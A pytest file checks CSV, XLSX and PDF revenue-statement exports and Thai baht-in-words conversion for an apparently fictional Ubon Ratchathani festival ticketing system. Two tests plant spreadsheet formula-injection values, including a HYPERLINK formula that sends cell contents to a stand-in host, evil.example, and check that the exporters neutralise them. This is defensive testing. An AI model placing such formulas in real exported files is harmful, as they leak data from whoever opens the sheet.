"""Statement exports read back: CSV and XLSX to the satang, the PDF as text; amounts in Thai words."""
import csv
import dataclasses
import io
import subprocess
from decimal import Decimal

import openpyxl
import pytest
from flask import Flask
from flask_babel import Babel
from hypothesis import given, settings
from hypothesis import strategies as st

from ticketing.money import format_thb
from ticketing.revenue.bahttext import baht_text
from ticketing.revenue.exports import CSV_HEADER, statement_csv, statement_pdf, statement_xlsx
from ticketing.revenue.statements import CategoryLine, CentralSummary, OrganizationStatement, ShareLine, Statement
from ticketing.i18n import both, in_both

ORGANIZATIONS = [
    ("chamber", "หอการค้าจังหวัดอุบลราชธานี", "Ubon Ratchathani Chamber of Commerce"),
    ("industry", "สภาอุตสาหกรรมจังหวัดอุบลราชธานี", "Federation of Thai Industries, Ubon Ratchathani"),
    ("tourism", "สมาคมการท่องเที่ยวจังหวัดอุบลราชธานี", "Ubon Ratchathani Tourism Association"),
    ("hotels", "สมาคมโรงแรมจังหวัดอุบลราชธานี", "Ubon Ratchathani Hotels Association"),
    ("bankers", "ชมรมธนาคารจังหวัดอุบลราชธานี", "Ubon Ratchathani Bankers' Club"),
    ("tax", "สภาวิชาชีพบัญชีภาคอีสานใต้", "Accountants' Council, Lower Northeast"),
    ("press", "สมาคมสื่อมวลชนอุบลราชธานี", "Ubon Ratchathani Press Association"),
    ("sme", "สมาคมส่งเสริมผู้ประกอบการขนาดกลางและขนาดย่อม", "SME Promotion Association"),
    ("youth", "หอการค้ารุ่นใหม่อุบลราชธานี", "Young Entrepreneur Chamber of Commerce, Ubon"),
]
CATEGORIES = [("vip", "วีไอพีแถวหน้า", "VIP front rows", 250_000), ("std", "ที่นั่งมาตรฐาน", "Standard seats", 150_000),
              ("side", "ที่นั่งด้านข้าง", "Side stands", 80_050)]


def make_statement(closed: bool = False) -> Statement:
    """Nine organizations with made-up figures: one sold nothing, one must receive money."""
    organizations = []
    for i, (code, th, en) in enumerate(ORGANIZATIONS):
        lines = [] if code == "bankers" else [
            CategoryLine(cat, cth, cen, tickets=(i + 1) * (k + 2), gross_satang=(i + 1) * (k + 2) * price)
            for k, (cat, cth, cen, price) in enumerate(CATEGORIES[: 1 + i % 3])]
        gross = sum(line.gross_satang for line in lines)
        refunds = 0 if not lines else 150_000 * (i % 2)
        share = gross // 10 + 37
        custody = gross - refunds if code != "press" else 1_234_500  # press took little at its own counter
        organizations.append(OrganizationStatement(
            organization_id=i + 1, code=code, name_th=th, name_en=en, categories=lines,
            tickets_sold=sum(line.tickets for line in lines), gross_satang=gross, complimentary_tickets=i % 4,
            tickets_voided=i % 2, refunds_satang=refunds, share_satang=share if lines else 0,
            custody_satang=custody if lines else 0,
            net_to_central_satang=(custody - share) if lines else 0))
    press = next(o for o in organizations if o.code == "press")
    press.share_satang = 2_468_950
    press.net_to_central_satang = press.custody_satang - press.share_satang
    assert press.net_to_central_satang < 0
    for org in organizations:  # a commission of 10 %; the tourism association also operates (20 baht a ticket)
        if org.share_satang:
            org.net_sales_satang = org.gross_satang - org.refunds_satang
            operator = 2_000 * sum(o.tickets_sold for o in organizations) if org.code == "tourism" else 0
            org.commission_satang = org.share_satang - operator
            org.operator_fee_satang = operator
            org.shares = [ShareLine("seller_commission", 2, 1000, None, org.commission_satang)]
            if operator:
                org.shares.append(ShareLine("operator_fee", 2, None, 2000, operator))
    gross = sum(o.gross_satang for o in organizations)
    central = CentralSummary(gross_satang=gross, refunds_satang=sum(o.refunds_satang for o in organizations),
                             shares_to_organizations_satang=sum(o.share_satang for o in organizations),
                             central_share_satang=gross // 5, fees_satang=0, expenses_satang=123_456_789,
                             custody_satang=4_500_000)
    central.net_satang = central.central_share_satang - central.fees_satang - central.expenses_satang
    central.net_sales_satang = central.gross_satang - central.refunds_satang
    central.receivable_satang = sum(o.net_to_central_satang for o in organizations if o.net_to_central_satang > 0)
    central.payable_satang = -sum(o.net_to_central_satang for o in organizations if o.net_to_central_satang < 0)
    central.reconciled_satang = central.custody_satang + central.receivable_satang - central.payable_satang
    central.shares = [ShareLine("central_share", 1, None, None, 1_000_000),
                      ShareLine("central_share", 2, None, None, central.central_share_satang - 1_000_000)]
    return Statement(festival_id=1, festival_th="งานประเพณีแห่เทียนพรรษาจังหวัดอุบลราชธานี ประจำปี 2570",
                     festival_en="Ubon Ratchathani Candle Festival 2027", starts_at="2027-07-18T17:00:00+00:00",
                     ends_at="2027-07-20T17:00:00+00:00", generated_at="2027-07-21T02:15:00+00:00", closed=closed,
                     organizations=organizations, central=central)


@pytest.fixture
def babel_app():
    """gettext and force_locale need an app context; no database here."""
    app = Flask(__name__)
    Babel(app, default_translation_directories="/work/main/translations")
    with app.app_context():
        yield app


# ------------------------------------------------------------------------------------- baht_text

@pytest.mark.parametrize("satang,words", [
    (0, "ศูนย์บาทถ้วน"),
    (100, "หนึ่งบาทถ้วน"),
    (1_000, "สิบบาทถ้วน"),
    (1_100, "สิบเอ็ดบาทถ้วน"),
    (2_000, "ยี่สิบบาทถ้วน"),
    (2_100, "ยี่สิบเอ็ดบาทถ้วน"),
    (10_100, "หนึ่งร้อยเอ็ดบาทถ้วน"),
    (1_500_000, "หนึ่งหมื่นห้าพันบาทถ้วน"),
    (123_456_789, "หนึ่งล้านสองแสนสามหมื่นสี่พันห้าร้อยหกสิบเจ็ดบาทแปดสิบเก้าสตางค์"),
    (50, "ห้าสิบสตางค์"),
    (1, "หนึ่งสตางค์"),
    (11, "สิบเอ็ดสตางค์"),
    (21, "ยี่สิบเอ็ดสตางค์"),
    (101, "หนึ่งบาทหนึ่งสตางค์"),
    (100_000_000, "หนึ่งล้านบาทถ้วน"),
    (100_000_100, "หนึ่งล้านเอ็ดบาทถ้วน"),
    (1_100_000_000, "สิบเอ็ดล้านบาทถ้วน"),
    (2_000_000_000, "ยี่สิบล้านบาทถ้วน"),
    (10**14, "หนึ่งล้านล้านบาทถ้วน"),
    (-150_050, "ลบหนึ่งพันห้าร้อยบาทห้าสิบสตางค์"),
    (-50, "ลบห้าสิบสตางค์"),
])
def test_baht_text(satang, words):
    assert baht_text(satang) == words


@pytest.mark.parametrize("value", [1.0, 100.5, True, False, Decimal("1"), "100", None])
def test_baht_text_takes_integer_satang_only(value):
    with pytest.raises(TypeError):
        baht_text(value)


DIGIT_WORDS = {"ศูนย์": 0, "หนึ่ง": 1, "เอ็ด": 1, "สอง": 2, "ยี่": 2, "สาม": 3, "สี่": 4, "ห้า": 5, "หก": 6,
               "เจ็ด": 7, "แปด": 8, "เก้า": 9}
PLACE_WORDS = {"สิบ": 10, "ร้อย": 100, "พัน": 1_000, "หมื่น": 10_000, "แสน": 100_000}


def _read_number(words: str) -> int:
    """Thai number words back to an int (the inverse the property test checks against)."""
    if "ล้าน" in words:
        high, _, low = words.rpartition("ล้าน")
        return _read_number(high) * 1_000_000 + (_read_number(low) if low else 0)
    total, digit = 0, None
    while words:
        token = next(t for t in sorted([*DIGIT_WORDS, *PLACE_WORDS], key=len, reverse=True) if words.startswith(t))
        words = words[len(token):]
        if token in DIGIT_WORDS:
            digit = DIGIT_WORDS[token]
        else:
            total += (1 if digit is None else digit) * PLACE_WORDS[token]
            digit = None
    return total + (digit or 0)


def _read_baht(text: str) -> int:
    sign = -1 if text.startswith("ลบ") else 1
    text = text.removeprefix("ลบ")
    if text.endswith("บาทถ้วน"):
        return sign * 100 * _read_number(text.removesuffix("บาทถ้วน"))
    baht, _, satang = text.removesuffix("สตางค์").rpartition("บาท")
    return sign * ((100 * _read_number(baht) if baht else 0) + _read_number(satang))


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.integers(min_value=0, max_value=10**15), st.integers(min_value=0, max_value=10**4)))
def test_baht_text_never_fails_and_ends_in_thuan_only_for_whole_baht(satang):
    words = baht_text(satang)
    assert words.endswith("ถ้วน") == (satang % 100 == 0)
    assert words.endswith("สตางค์") == (satang % 100 != 0)
    assert "หนึ่งสิบ" not in words and "สองสิบ" not in words
    assert _read_baht(words) == satang
    assert baht_text(-satang) == (words if satang == 0 else "ลบ" + words)


# -------------------------------------------------------------------------------------------- CSV

def test_csv_reads_back_to_the_satang(babel_app):
    statement = make_statement()
    rows = list(csv.DictReader(io.StringIO(statement_csv(statement))))
    assert list(rows[0]) == CSV_HEADER
    shares = [r for r in rows if r["record_type"] == "share"]
    rows = [r for r in rows if r["record_type"] != "share"]
    assert len(rows) == len(statement.organizations) + 1
    assert len(shares) == sum(len(o.shares) for o in statement.organizations) + len(statement.central.shares)
    assert sum(int(r["amount_satang"]) for r in shares) == sum(o.share_satang for o in statement.organizations) \
        + statement.central.central_share_satang
    for row, org in zip(rows, statement.organizations):
        assert row["record_type"] == "organization"
        assert (row["organization_code"], row["name_th"], row["name_en"]) == (org.code, org.name_th, org.name_en)
        for key in ("tickets_sold", "complimentary_tickets", "tickets_voided", "gross_satang", "refunds_satang",
                    "share_satang", "custody_satang", "net_to_central_satang"):
            assert int(row[key]) == getattr(org, key), key
        assert row["net_satang"] == "" and row["expenses_satang"] == ""
    central = rows[-1]
    assert central["record_type"] == "central" and central["organization_code"] == ""
    assert central["name_th"] == in_both("Central fund")[0]
    for field in dataclasses.fields(CentralSummary):
        if field.name == "shares":
            continue
        assert int(central[field.name]) == getattr(statement.central, field.name), field.name
    press = next(r for r in rows if r["organization_code"] == "press")
    assert int(press["net_to_central_satang"]) < 0  # a negative number stays a plain number
    assert press["net_to_central_satang"].startswith("-")


def test_csv_defuses_spreadsheet_formulas(babel_app):
    statement = make_statement()
    first = statement.organizations[0]
    first.name_th = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
    first.name_en = "-5"
    first.code = "@sum"
    statement.organizations[1].name_en = "+1+2"
    statement.organizations[2].name_en = "\tTAB"
    rows = [r for r in csv.DictReader(io.StringIO(statement_csv(statement))) if r["record_type"] != "share"]
    assert rows[0]["name_th"] == "'" + first.name_th
    assert rows[0]["name_en"] == "'-5"
    assert rows[0]["organization_code"] == "'@sum"
    assert rows[1]["name_en"] == "'+1+2"
    assert rows[2]["name_en"] == "'\tTAB"
    assert rows[3]["name_en"] == statement.organizations[3].name_en  # ordinary text untouched
    assert int(rows[0]["gross_satang"]) == first.gross_satang


def test_csv_refuses_float_money(babel_app):
    statement = make_statement()
    statement.organizations[0].gross_satang = 1500.0
    with pytest.raises(TypeError):
        statement_csv(statement)


# ------------------------------------------------------------------------------------------- XLSX

def _find_row(ws, column: int, value):
    for row in ws.iter_rows():
        if row[column - 1].value == value:
            return row
    raise AssertionError(f"{value!r} not found in {ws.title}")


def test_xlsx_reads_back_to_the_satang(babel_app):
    statement = make_statement()
    book = openpyxl.load_workbook(io.BytesIO(statement_xlsx(statement)))
    summary_title = both("Summary")
    assert book.sheetnames == [summary_title] + [o.code for o in statement.organizations]
    summary = book[summary_title]
    assert summary["A1"].value == statement.festival_th and summary["A2"].value == statement.festival_en
    assert "2570" in summary["A4"].value and "2027" in summary["A5"].value  # Buddhist Era in Thai
    # 17:00 UTC is midnight in Ubon: whole days, said as the first and the last day (included)
    assert summary["A4"].value.endswith("19 กรกฎาคม 2570 ถึง 20 กรกฎาคม 2570")
    assert summary["A5"].value.endswith("19 July 2027 to 20 July 2027")
    amounts = ["gross_satang", "refunds_satang", "share_satang", "custody_satang", "net_to_central_satang"]
    for org in statement.organizations:
        row = _find_row(summary, 1, org.code)
        assert (row[1].value, row[2].value) == (org.name_th, org.name_en)
        assert [c.value for c in row[3:6]] == [org.tickets_sold, org.complimentary_tickets, org.tickets_voided]
        assert all(isinstance(c.value, int) for c in row[3:6])
        for cell, key in zip(row[6:11], amounts):
            assert round(cell.value * 100) == getattr(org, key), key
            assert cell.number_format == "#,##0.00"
        sheet = book[org.code]
        assert sheet["A1"].value == statement.festival_th
        for line in org.categories:
            cat = _find_row(sheet, 1, line.code)
            assert cat[3].value == line.tickets and round(cat[4].value * 100) == line.gross_satang
            assert cat[4].number_format == "#,##0.00"
        net = _find_row(sheet, 1, both("To remit to the central fund (baht)"))
        assert round(net[4].value * 100) == org.net_to_central_satang
        held = _find_row(sheet, 1, both("Money held (baht)"))
        assert round(held[4].value * 100) == org.custody_satang
    total = _find_row(summary, 1, both("Total"))
    assert round(total[6].value * 100) == sum(o.gross_satang for o in statement.organizations)
    net = _find_row(summary, 2, both("Net"))
    assert round(net[6].value * 100) == statement.central.net_satang
    assert net[6].number_format == "#,##0.00" and net[6].value < 0
    expenses = _find_row(summary, 2, both("Expenses"))
    assert round(expenses[6].value * 100) == 123_456_789
    assert summary.column_dimensions["B"].width >= 30 and summary.cell(8, 1).font.bold


def test_xlsx_keeps_formula_text_as_text_and_sheet_titles_legal(babel_app):
    statement = make_statement()
    evil = '=HYPERLINK("http://evil.example","x")'
    statement.organizations[0].name_th = evil
    statement.organizations[1].code = "a" * 40
    statement.organizations[2].code = "A" * 40  # the same title to Excel once cut to 31 characters
    statement.organizations[3].code = "x/y:z"
    book = openpyxl.load_workbook(io.BytesIO(statement_xlsx(statement)))
    titles = book.sheetnames
    assert len(titles) == 10 and len({t.lower() for t in titles}) == 10
    assert all(len(t) <= 31 for t in titles)
    assert titles[2] == "a" * 31 and titles[3].lower() != titles[2] and titles[4] == "x_y_z"
    cell = _find_row(book[titles[0]], 2, evil)[1]
    assert cell.data_type == "s" and cell.value == evil


# -------------------------------------------------------------------------------------------- PDF

def _pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "statement.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


def test_pdf_statement_shows_every_organization_in_thai(babel_app, tmp_path):
    statement = make_statement()
    data = statement_pdf(statement)
    assert data.startswith(b"%PDF")
    text = _pdf_text(data, tmp_path)
    flat = " ".join(text.split())
    pages = text.count("\f")
    assert 3 <= pages <= 6
    assert in_both("Page %(n)d of %(total)d")[0] % {"n": pages, "total": pages} in text
    assert statement.festival_th in text and "2570" in text  # Buddhist Era
    for org in statement.organizations:
        assert org.name_th in text, org.name_th
        assert format_thb(org.gross_satang) in text
        assert format_thb(abs(org.net_to_central_satang)) in text
        for line in org.categories:
            assert line.name_th in text
    press = next(o for o in statement.organizations if o.code == "press")
    assert baht_text(-press.net_to_central_satang) in flat  # the net in Thai words
    assert baht_text(statement.central.net_satang) in flat  # "ลบ…" for the central fund's deficit
    assert in_both("To receive from the central fund")[0] in text
    assert in_both("To remit to the central fund")[0] in text
    assert in_both("Nothing to remit or receive")[0] in text  # the organization that sold nothing
    assert format_thb(statement.central.expenses_satang) in text
    assert format_thb(statement.central.net_satang) in text
    dots = "." * 20
    signed = in_both("Signed %(line)s representative of %(organization)s")[0]
    for org in statement.organizations:
        expected = signed % {"line": "\0", "organization": org.name_th}
        before, after = expected.split("\0")
        assert any(before.strip() in line and dots in line and line.rstrip().endswith(after.strip())
                   for line in text.splitlines()), org.name_th
    treasurer = in_both("Signed %(line)s treasurer")[0] % {"line": "\0"}
    assert any(dots in line and line.rstrip().endswith(treasurer.split("\0")[1].strip()) for line in text.splitlines())
    assert in_both("Closed period")[0] not in text


def test_pdf_marks_a_closed_period(babel_app, tmp_path):
    text = _pdf_text(statement_pdf(make_statement(closed=True)), tmp_path)
    closed_th, closed_en = in_both("Closed period")
    assert closed_th in text and closed_en in text


def test_pdf_with_translations_reads_thai(babel_app, tmp_path):
    """Once the Thai catalogue has the statement's words, the PDF says them (skipped until then)."""
    if in_both("Signed %(line)s treasurer")[0] == "Signed %(line)s treasurer":
        pytest.skip("the statement's msgids are not in the compiled Thai catalogue yet")
    text = _pdf_text(statement_pdf(make_statement()), tmp_path)
    assert "ลงชื่อ" in text and "ผู้แทนหอการค้าจังหวัดอุบลราชธานี" in text and "เหรัญญิก" in text
    assert "ต้องนำส่งกองกลาง" in text and "ได้รับจากกองกลาง" in text
